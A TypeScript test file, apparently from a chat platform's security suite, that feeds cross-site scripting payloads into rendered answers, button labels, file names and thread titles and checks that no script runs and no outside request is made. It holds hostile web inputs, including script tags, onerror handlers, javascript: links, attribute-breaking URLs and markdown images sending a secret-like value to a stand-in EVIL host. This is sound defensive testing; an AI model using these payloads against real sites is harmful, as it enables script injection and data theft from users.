import { onTestFinished } from "vitest";
import { entryUrl, openPlatform } from "../../adapters/web/web-setup.ts";
import { Inbox } from "../../contracts/inbox.ts";
import { plainMessage } from "../../contracts/platform-steps.ts";
import { MemoryThreadStore } from "../../support/database/memory-thread-store.ts";
import { sharedBrowser } from "../../support/program/browser.ts";
import { visitAddress } from "../../support/program/page-visit.ts";
import { startSite } from "../../tools/network/fetch-session.ts";
import type { Attempt } from "./attack.ts";

/** Foreign text on the page: it must neither run a script nor cause a request. */

const HACK = "window.hacked=1";

interface Words {
  readonly name: string;
  /** Shown as an answer; EVIL stands for the address of another server. */
  readonly answer?: string;
  readonly button?: string;
  readonly file?: string;
  /** The person's message, which is the thread's title as well. */
  readonly says?: string;
}

const WORDS: readonly Words[] = [
  { name: "an answer with a script", answer: `<script>${HACK}</script>` },
  {
    name: "an answer with a picture that runs something",
    answer: `<img src=x onerror="${HACK}"><svg onload="${HACK}">`,
  },
  {
    name: "an answer with a link that runs something",
    answer: `[open](javascript:${HACK}) [this](JaVaScRiPt&#58;${HACK})`,
  },
  { name: "a picture whose address tells what was read", answer: "![x](http://EVIL/?d=hunter2-4711)" },
  { name: "a picture by reference", answer: "![x][1]\n\n[1]: http://EVIL/?d=hunter2-4711" },
  {
    name: "a frame, a form and a style of others",
    answer: '<iframe src="http://EVIL/"></iframe><form action="http://EVIL/"><style>@import "http://EVIL/s"</style>',
  },
  {
    name: "an address that closes what it stands in",
    answer: `[x](http://EVIL/"onmouseover="${HACK}" x=") <http://EVIL/'onfocus='${HACK}'autofocus>`,
  },
  {
    name: "a code block that closes what it stands in",
    answer: `\`\`\`html"><img src=x onerror=${HACK}>\n</code></pre><img src=x onerror=${HACK}>\n\`\`\``,
  },
  { name: "a table whose cells are markup", answer: `| a |\n|---|\n| <img src=x onerror=${HACK}> |` },
  { name: "a button's words", button: `<img src=x onerror=${HACK}>` },
  { name: "a file's name", file: `"><img src=x onerror=${HACK}>.txt` },
  { name: "a thread's title", says: `<img src=x onerror=${HACK}> [x](javascript:${HACK})` },
];

function attempt({ name, answer = "done", button, file, says = "hello" }: Words): Attempt {
  return {
    group: "page",
    name: `${name} is shown in the page`,
    expected: "nothing",
    async attempt() {
      const evil = await startSite((_request, response) => response.end());
      const inbox = new Inbox();
      const platform = openPlatform({ store: new MemoryThreadStore() });
      await platform.start(inbox.receive, new AbortController().signal);
      onTestFinished(() => platform.stop());
      await using visit = await visitAddress(entryUrl(platform), await sharedBrowser());
      await visit.say(says);
      const { thread } = await inbox.nextMessage();
      const data = new TextEncoder().encode("x");
      const shown = plainMessage(`${answer.replaceAll("EVIL", `127.0.0.1:${evil.port}`)}\n\nthe end`, {
        ...(button === undefined ? {} : { buttons: [{ id: "stop:run_1", label: button, style: "default" as const }] }),
        ...(file === undefined ? {} : { files: [{ name: file, mediaType: "text/plain", data }] }),
      });
      await platform.post(thread, shown, "answer");
      await visit.messages.getByText("the end").waitFor();
      // By then the page has requested everything that it loads by itself.
      await visit.page.waitForLoadState("networkidle");
      const isHacked = await visit.page.evaluate("window.hacked === 1");
      const leads = await visit.page.evaluate("[...document.querySelectorAll('a[href]')].map((each) => each.protocol)");
      const others = await visit.messages.locator("iframe, form, style, script, img:not([src^='/'])").count();
      const said = `${evil.requests.length} ${JSON.stringify(leads)} ${others}`;
      const isReached = evil.requests.length > 0 || others > 0 || /javascript|data/u.test(said);
      return { succeeded: isHacked === true || isReached, observed: "nothing", said };
    },
  };
}

export const PAGE_WORDS: readonly Attempt[] = WORDS.map(attempt);
